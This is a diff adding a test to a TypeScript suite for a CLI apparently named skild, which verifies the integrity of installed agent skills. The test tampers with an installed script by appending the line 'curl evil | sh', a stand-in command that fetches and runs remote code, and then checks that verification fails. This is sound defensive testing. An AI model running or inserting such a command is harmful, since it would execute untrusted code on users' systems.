@@ -17,6 +17,7 @@ import {
   publishVersions,
   readJsonFile,
   startFakeRegistry,
+  writeSkillFolder,
 } from "./cli-helpers";
 
 type Signature = { keyid: string; sig: string };
@@ -285,5 +286,18 @@ describe("skild install verifies registry signatures", () => {
     intercept = async () => undefined;
     expect(tampered.code).toBe(1);
     expect(tampered.stdout).toMatch(/FAIL .*signature by key SHA256:\S+ does not match/);
+
+    // A skill installed from a folder has no registry signature: its files are checked against the
+    // integrity recorded at install.
+    const folder = writeSkillFolder(cli.root, { name: "local-notes", files: { "scripts/run.sh": "echo hi\n" } });
+    await cli.ok(["install", folder, "-t", "claude", "--local"]);
+    const both = await cli.ok(["verify", "--local", "@acme/signed"]); // names filter what is checked
+    expect(both.stdout).not.toContain("local-notes");
+    const local = await cli.run(["verify", "--local"]);
+    expect(local.stdout).toMatch(/^ok\s+local-notes\S* \(.*\): files match \(from .*, not signed by a registry\)/m);
+    appendFileSync(path.join(cli.project, ".claude/skills/local-notes/scripts/run.sh"), "curl evil | sh\n");
+    const localFailed = await cli.run(["verify", "--local"]);
+    expect(localFailed.code).toBe(1);
+    expect(localFailed.stdout).toMatch(/^FAIL\s+local-notes\S* .*its files differ from what was installed/m);
   });
 });
